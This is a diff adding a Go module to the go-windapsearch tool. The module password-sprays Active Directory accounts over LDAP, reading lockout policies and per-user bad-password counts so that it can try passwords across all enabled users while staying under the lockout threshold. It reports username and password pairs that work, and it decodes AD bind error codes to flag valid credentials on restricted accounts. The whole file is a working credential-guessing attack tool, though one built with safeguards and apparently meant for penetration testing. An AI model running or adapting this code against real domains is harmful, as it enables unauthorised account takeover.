@@ -0,0 +1,428 @@
+package modules
+
+import (
+	"bufio"
+	"fmt"
+	"math"
+	"os"
+	"sort"
+	"strconv"
+	"strings"
+	"time"
+
+	"github.com/go-ldap/ldap/v3"
+	"github.com/ropnop/go-windapsearch/pkg/adschema"
+	"github.com/ropnop/go-windapsearch/pkg/ldapsession"
+	"github.com/ropnop/go-windapsearch/pkg/redact"
+	"github.com/spf13/pflag"
+)
+
+// bindErrors are the AD bind error data codes that mean the password was right, but the account can't log on
+var bindErrors = map[string]string{
+	"530": "valid (logon hours restricted)",
+	"531": "valid (workstation restricted)",
+	"532": "valid (password expired)",
+	"533": "valid (account disabled)",
+	"701": "valid (account expired)",
+	"773": "valid (must change password)",
+}
+
+// errLockedOut stops a spray as soon as any account reports it is locked out, since it means the policy that
+// applies to it is stricter than the one that was read
+var errLockedOut = fmt.Errorf("account locked out")
+
+type SprayModule struct {
+	UsersFile    string
+	Passwords    []string
+	PasswordFile string
+	Delay        time.Duration
+	Safety       int
+	Timeout      int
+}
+
+func init() {
+	AllModules = append(AllModules, new(SprayModule))
+	adschema.RegisterAttribute("password", "String(Unicode)", true)
+}
+
+func (s *SprayModule) Name() string {
+	return "spray"
+}
+
+func (s *SprayModule) Description() string {
+	return "Password spray users one password per round, keeping every account below the lockout threshold"
+}
+
+func (s *SprayModule) FlagSet() *pflag.FlagSet {
+	flags := pflag.NewFlagSet(s.Name(), pflag.ExitOnError)
+	flags.StringVar(&s.UsersFile, "users", "", "File of sAMAccountNames to spray, one per line (default: every enabled user)")
+	flags.StringSliceVar(&s.Passwords, "passwords", nil, "Comma separated passwords to try, one per round")
+	flags.StringVar(&s.PasswordFile, "password-file", "", "File of passwords to try, one per line")
+	flags.DurationVar(&s.Delay, "delay", 0, "Time to wait between rounds (default: the lockout observation window plus a minute)")
+	flags.IntVar(&s.Safety, "safety", 2, "Number of bad password attempts to always leave before an account's lockout threshold")
+	flags.IntVar(&s.Timeout, "timeout", 5, "Seconds to wait for each bind")
+	return flags
+}
+
+func (s *SprayModule) DefaultAttrs() []string {
+	return []string{"sAMAccountName", "password", "status"}
+}
+
+// IsWriteModule gates spray behind --write: every failed bind increments an account's badPwdCount, which is a change
+// to the directory that can end in a lockout
+func (s *SprayModule) IsWriteModule() bool {
+	return true
+}
+
+// lockoutPolicy is the account lockout policy spraying has to stay under
+type lockoutPolicy struct {
+	Threshold int
+	Window    time.Duration
+	Duration  time.Duration
+}
+
+// sprayUser is an account's lockout state, as seen by the DC the session is connected to
+type sprayUser struct {
+	DN          string
+	Name        string
+	BadPwdCount int
+	LockedOut   bool
+}
+
+func (s *SprayModule) Run(session *ldapsession.LDAPSession, attrs []string) error {
+	passwords, err := s.passwords()
+	if err != nil {
+		return err
+	}
+	policy, err := readLockoutPolicy(session)
+	if err != nil {
+		return err
+	}
+	delay, err := s.roundDelay(policy)
+	if err != nil {
+		return err
+	}
+	names, err := s.userNames()
+	if err != nil {
+		return err
+	}
+	users, err := readSprayUsers(session, policy, names)
+	if err != nil {
+		return err
+	}
+	targets, err := s.targets(users, names)
+	if err != nil {
+		return err
+	}
+
+	if policy.Threshold == 0 {
+		fmt.Fprintf(os.Stderr, "[*] No account lockout threshold set\n")
+	} else {
+		fmt.Fprintf(os.Stderr, "[*] Lockout policy: %d attempts in %s (locked out for %s)\n", policy.Threshold, policy.Window, policy.Duration)
+	}
+	fmt.Fprintf(os.Stderr, "[*] Spraying %d password(s) against %d user(s), waiting %s between rounds\n", len(passwords), len(targets), delay)
+	if session.DryRun() {
+		fmt.Fprintf(os.Stderr, "[*] Dry run, not spraying (add --confirm to spray)\n")
+		return nil
+	}
+
+	host, port := session.Server()
+	timeout := time.Duration(s.Timeout) * time.Second
+	var conn *ldap.Conn
+	defer func() {
+		if conn != nil {
+			conn.Close()
+		}
+	}()
+	domain := ldapsession.DNToDomain(session.NamingContexts.Default)
+	found := make(map[string]bool)
+	for round, password := range passwords {
+		if round > 0 {
+			fmt.Fprintf(os.Stderr, "[*] Waiting %s before the next round\n", delay)
+			select {
+			case <-time.After(delay):
+			case <-session.Context().Done():
+				return session.Context().Err()
+			}
+			// bad password counts reset after the observation window, so read them again for every round
+			if users, err = readSprayUsers(session, policy, targets); err != nil {
+				return err
+			}
+		}
+
+		var attempted, skipped int
+		for _, name := range targets {
+			if found[name] {
+				continue
+			}
+			// accounts disabled since the last round drop out of the search
+			u, ok := users[name]
+			if !ok || u.LockedOut || (policy.Threshold > 0 && u.BadPwdCount >= policy.Threshold-s.Safety) {
+				skipped++
+				continue
+			}
+			if conn == nil {
+				if conn, err = session.DialServer(host, port, session.Options().Secure, timeout); err != nil {
+					return err
+				}
+				if options := session.Options(); options.StartTLS && !options.Secure {
+					config, err := options.TLSConfig(host)
+					if err == nil {
+						err = conn.StartTLS(config)
+					}
+					if err != nil {
+						conn.Close()
+						return err
+					}
+				}
+			}
+			attempted++
+			status, err := sprayBind(conn, fmt.Sprintf("%s@%s", u.Name, domain), password)
+			if err == errLockedOut {
+				return fmt.Errorf("%s is locked out, stopping the spray: a stricter (fine-grained) lockout policy may apply", u.Name)
+			}
+			if err != nil {
+				// the connection may be gone, so open a new one for the next attempt
+				session.Log.Warnf("bind as %s failed: %s", u.Name, err)
+				conn.Close()
+				conn = nil
+				continue
+			}
+			if status == "" {
+				continue
+			}
+			found[name] = true
+			fmt.Fprintf(os.Stderr, "[+] %s:%s is %s\n", u.Name, password, status)
+			// each hit is sent as it's found, so the ones found so far are kept if the spray stops early.
+			// writeResult would close the channels after the first
+			hit := ldap.NewEntry(u.DN, map[string][]string{
+				"sAMAccountName": {u.Name},
+				"password":       {password},
+				"status":         {status},
+			})
+			session.WriteSearchResultsToChan(&ldap.SearchResult{Entries: filterEntryAttributes([]*ldap.Entry{hit}, attrs)})
+		}
+		fmt.Fprintf(os.Stderr, "[*] Round %d/%d: %d attempted, %d skipped (near the lockout threshold or locked out), %d valid so far\n",
+			round+1, len(passwords), attempted, skipped, len(found))
+	}
+	return nil
+}
+
+// passwords combines the --passwords and --password-file passwords
+func (s *SprayModule) passwords() ([]string, error) {
+	passwords := s.Passwords
+	if s.PasswordFile != "" {
+		lines, err := readLines(s.PasswordFile)
+		if err != nil {
+			return nil, err
+		}
+		passwords = append(passwords, lines...)
+	}
+	if len(passwords) == 0 {
+		return nil, fmt.Errorf("must provide --passwords or a --password-file")
+	}
+	redact.Add(passwords...)
+	return passwords, nil
+}
+
+// roundDelay works out the delay between rounds. Shorter delays than the policy allows for are refused
+func (s *SprayModule) roundDelay(policy lockoutPolicy) (time.Duration, error) {
+	if policy.Threshold == 0 {
+		return s.Delay, nil
+	}
+	perWindow := policy.Threshold - s.Safety
+	if perWindow < 1 {
+		return 0, fmt.Errorf("a lockout threshold of %d leaves no attempts to spray with --safety %d", policy.Threshold, s.Safety)
+	}
+	if s.Delay == 0 {
+		return policy.Window + time.Minute, nil
+	}
+	if min := policy.Window / time.Duration(perWindow); s.Delay < min {
+		return 0, fmt.Errorf("--delay must be at least %s to stay below a lockout threshold of %d in %s", min, policy.Threshold, policy.Window)
+	}
+	return s.Delay, nil
+}
+
+// userNames reads the lower case sAMAccountNames in the --users file, if one was given
+func (s *SprayModule) userNames() ([]string, error) {
+	if s.UsersFile == "" {
+		return nil, nil
+	}
+	lines, err := readLines(s.UsersFile)
+	if err != nil {
+		return nil, err
+	}
+	var names []string
+	seen := make(map[string]bool)
+	for _, line := range lines {
+		_, name := splitUsername(line, "")
+		if name = strings.ToLower(name); !seen[name] {
+			seen[name] = true
+			names = append(names, name)
+		}
+	}
+	if len(names) == 0 {
+		return nil, fmt.Errorf("no usernames in %q", s.UsersFile)
+	}
+	return names, nil
+}
+
+// targets returns the lower case names of the users to spray, in order: the names from the --users file that are
+// enabled users, or every enabled user
+func (s *SprayModule) targets(users map[string]sprayUser, names []string) ([]string, error) {
+	var targets []string
+	if names == nil {
+		for name := range users {
+			targets = append(targets, name)
+		}
+		sort.Strings(targets)
+		return targets, nil
+	}
+	for _, name := range names {
+		if _, ok := users[name]; !ok {
+			fmt.Fprintf(os.Stderr, "[*] Skipping %s: no enabled user with that sAMAccountName\n", name)
+			continue
+		}
+		targets = append(targets, name)
+	}
+	if len(targets) == 0 {
+		return nil, fmt.Errorf("none of the users in %q are enabled users in the domain", s.UsersFile)
+	}
+	return targets, nil
+}
+
+// readLockoutPolicy reads the domain lockout policy, tightened by any fine-grained password policies that are
+// readable (normally they are only readable by admins)
+func readLockoutPolicy(session *ldapsession.LDAPSession) (policy lockoutPolicy, err error) {
+	sr := ldap.NewSearchRequest(session.NamingContexts.Default, ldap.ScopeBaseObject, ldap.NeverDerefAliases, 0, 0, false,
+		"(objectClass=*)", []string{"lockoutThreshold", "lockOutObservationWindow", "lockoutDuration"}, nil)
+	res, err := session.GetSearchResults(sr)
+	if err != nil {
+		return
+	}
+	if len(res.Entries) == 0 || res.Entries[0].GetAttributeValue("lockoutThreshold") == "" {
+		return policy, fmt.Errorf("unable to read the domain lockout policy, refusing to spray")
+	}
+	domain := res.Entries[0]
+	policy.Threshold, _ = strconv.Atoi(domain.GetAttributeValue("lockoutThreshold"))
+	policy.Window = intervalDuration(domain.GetAttributeValue("lockOutObservationWindow"))
+	policy.Duration = intervalDuration(domain.GetAttributeValue("lockoutDuration"))
+
+	sr = ldap.NewSearchRequest("CN=Password Settings Container,CN=System,"+session.NamingContexts.Default,
+		ldap.ScopeSingleLevel, ldap.NeverDerefAliases, 0, 0, false, "(objectClass=msDS-PasswordSettings)",
+		[]string{"cn", "msDS-LockoutThreshold", "msDS-LockoutObservationWindow", "msDS-LockoutDuration"}, nil)
+	if res, err = session.GetSearchResults(sr); err != nil {
+		session.Log.Infof("unable to read fine-grained password policies: %s", err)
+		return policy, nil
+	}
+	for _, pso := range res.Entries {
+		threshold, _ := strconv.Atoi(pso.GetAttributeValue("msDS-LockoutThreshold"))
+		if threshold > 0 && (policy.Threshold == 0 || threshold < policy.Threshold) {
+			fmt.Fprintf(os.Stderr, "[*] Using the stricter threshold of fine-grained password policy %s\n", pso.GetAttributeValue("cn"))
+			policy.Threshold = threshold
+		}
+		if window := intervalDuration(pso.GetAttributeValue("msDS-LockoutObservationWindow")); threshold > 0 && window > policy.Window {
+			policy.Window = window
+		}
+		if duration := intervalDuration(pso.GetAttributeValue("msDS-LockoutDuration")); threshold > 0 && duration > policy.Duration {
+			policy.Duration = duration
+		}
+	}
+	return policy, nil
+}
+
+// readSprayUsers reads the lockout state of the named enabled users (or every enabled user if names is nil), keyed by
+// lower case sAMAccountName. badPwdCount isn't replicated, so it is read from the same DC the binds go to
+func readSprayUsers(session *ldapsession.LDAPSession, policy lockoutPolicy, names []string) (map[string]sprayUser, error) {
+	filter := "(&(objectCategory=person)(objectClass=user)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))"
+	attrs := []string{"sAMAccountName", "badPwdCount", "lockoutTime"}
+	var res *ldap.SearchResult
+	var err error
+	if names == nil {
+		res, err = session.GetPagedSearchResults(session.MakeSimpleSearchRequest(filter, attrs))
+	} else {
+		res, err = session.BulkSearch(session.BaseDN, "sAMAccountName", names, filter, attrs)
+	}
+	if err != nil {
+		return nil, err
+	}
+	users := make(map[string]sprayUser)
+	for _, entry := range res.Entries {
+		name := entry.GetAttributeValue("sAMAccountName")
+		count, _ := strconv.Atoi(entry.GetAttributeValue("badPwdCount"))
+		u := sprayUser{DN: entry.DN, Name: name, BadPwdCount: count}
+		// lockoutTime isn't cleared when a lockout expires, only when the account next logs on
+		if lockout := entry.GetAttributeValue("lockoutTime"); lockout != "" && lockout != "0" {
+			if t, err := adschema.NTFileTimeToTimestamp(lockout); err == nil {
+				u.LockedOut = policy.Duration == 0 || time.Since(t) < policy.Duration
+			}
+		}
+		users[strings.ToLower(name)] = u
+	}
+	return users, nil
+}
+
+// sprayBind tries a password, returning a status if it was right, or "" if it wasn't
+func sprayBind(conn *ldap.Conn, username, password string) (string, error) {
+	err := conn.Bind(username, password)
+	if err == nil {
+		return "valid", nil
+	}
+	if !ldap.IsErrorWithCode(err, ldap.LDAPResultInvalidCredentials) {
+		return "", err
+	}
+	switch code := bindErrorData(err.Error()); code {
+	case "52e":
+		return "", nil
+	case "775":
+		return "", errLockedOut
+	default:
+		if status, ok := bindErrors[code]; ok {
+			return status, nil
+		}
+	}
+	return "", nil
+}
+
+// bindErrorData extracts the Windows error code from an AD bind error, e.g. "... AcceptSecurityContext error, data 52e, v4563"
+func bindErrorData(msg string) string {
+	i := strings.Index(msg, "data ")
+	if i < 0 {
+		return ""
+	}
+	code := msg[i+len("data "):]
+	if end := strings.IndexAny(code, ", "); end >= 0 {
+		code = code[:end]
+	}
+	return code
+}
+
+// intervalDuration converts a (negative) interval attribute like lockoutDuration to a duration. The largest negative
+// value means "forever", which is returned as 0
+func intervalDuration(s string) time.Duration {
+	v, err := strconv.ParseInt(s, 10, 64)
+	if err != nil || v == math.MinInt64 {
+		return 0
+	}
+	if v < 0 {
+		v = -v
+	}
+	return time.Duration(v) * 100
+}
+
+// readLines reads the non-empty lines of a file
+func readLines(path string) ([]string, error) {
+	fp, err := os.Open(path)
+	if err != nil {
+		return nil, err
+	}
+	defer fp.Close()
+	var lines []string
+	scanner := bufio.NewScanner(fp)
+	for scanner.Scan() {
+		if line := strings.TrimSpace(scanner.Text()); line != "" {
+			lines = append(lines, line)
+		}
+	}
+	return lines, scanner.Err()
+}